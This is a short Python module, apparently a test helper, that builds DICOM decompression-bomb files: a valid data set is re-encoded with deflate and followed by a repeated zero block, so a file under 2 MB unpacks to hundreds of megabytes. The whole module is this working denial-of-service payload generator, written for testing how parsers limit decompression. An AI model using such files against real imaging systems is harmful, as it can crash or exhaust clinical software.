"""Small DICOM files that unpack to far more than they hold."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from pydicom import dcmread, dcmwrite
from pydicom.uid import DeflatedExplicitVRLittleEndian

MEGABYTE = 1 << 20


def write_deflated_bomb(sound: Path, path: Path, *, megabytes: int = 600) -> Path:
    """The data set of `sound`, deflated (DICOM PS3.5 A.5), and behind it one element of `megabytes` of zeros."""
    dataset = dcmread(sound)
    dataset.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    plain = io.BytesIO()
    dcmwrite(plain, dataset)
    raw = plain.getvalue()
    head = 144 + struct.unpack("<L", raw[140:144])[0]
    last = b"\xff\x7f\x10\x00OB\0\0" + struct.pack("<L", megabytes * MEGABYTE)
    squeeze = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = squeeze.compress(zlib.decompress(raw[head:], -zlib.MAX_WBITS) + last) + squeeze.flush(
        zlib.Z_FULL_FLUSH
    )
    # a megabyte that refers to nothing before it can be repeated: no need to deflate it again
    zeros = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = zeros.compress(bytes(MEGABYTE)) + zeros.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    path.write_bytes(raw[:head] + start + one * megabytes + end)
    assert path.stat().st_size < 2 * MEGABYTE
    return path
